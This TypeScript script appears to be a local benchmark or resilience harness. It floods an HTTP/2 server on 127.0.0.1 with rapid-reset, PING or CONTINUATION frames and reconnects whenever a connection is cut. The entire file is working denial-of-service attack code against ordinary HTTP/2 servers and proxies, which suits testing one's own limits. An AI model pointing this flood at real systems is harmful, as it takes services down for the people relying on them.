// A client of HTTP/2 that makes work for nothing, as fast as it can, and comes again whenever it is cut.
//
//   node flood.ts PORT CONNECTIONS rapid-reset|ping|continuation

import { connect } from 'node:net';

/** Frames on one connection: twenty times what any proxy here lets pass, if it counts them. */
const FRAMES = 100_000;

const TYPE = { headers: 1, rstStream: 3, settings: 4, ping: 6, continuation: 9 };
const END_STREAM_AND_HEADERS = 5;
const CANCEL = Buffer.from([0, 0, 0, 8]);
/** GET http / of the static table (RFC 7541 appendix A), and an authority. */
const HEAD = Buffer.from('\x82\x86\x84\x01\x05bench', 'latin1');

function frame(type: number, flags: number, stream: number, payload = Buffer.alloc(0)): Buffer {
  const header = Buffer.alloc(9);
  header.writeUIntBE(payload.length, 0, 3);
  header[3] = type;
  header[4] = flags;
  header.writeUInt32BE(stream, 5);
  return Buffer.concat([header, payload]);
}

/** What follows the preface. */
const FLOODS: Readonly<Record<string, () => Buffer[]>> = {
  'rapid-reset': () =>
    Array.from({ length: FRAMES }, (_, n) =>
      n % 2 === 0
        ? frame(TYPE.headers, END_STREAM_AND_HEADERS, n + 1, HEAD)
        : frame(TYPE.rstStream, 0, n, CANCEL),
    ),
  ping: () => Array.from({ length: FRAMES }, () => frame(TYPE.ping, 0, 0, Buffer.alloc(8))),
  continuation: () => [
    frame(TYPE.headers, 0, 1, HEAD),
    ...Array.from({ length: FRAMES }, () => frame(TYPE.continuation, 0, 1)),
  ],
};

const [port, connections, name] = process.argv.slice(2);
const preface = Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(TYPE.settings, 0, 0)]);
const flood = Buffer.concat([preface, ...FLOODS[name]()]);

function attack(): void {
  const socket = connect(Number(port), '127.0.0.1');
  // It ends itself when nobody cuts it.
  socket.end(flood);
  socket.resume();
  socket.on('error', () => socket.destroy());
  socket.on('close', attack);
}

for (let n = 0; n < Number(connections); n++) attack();
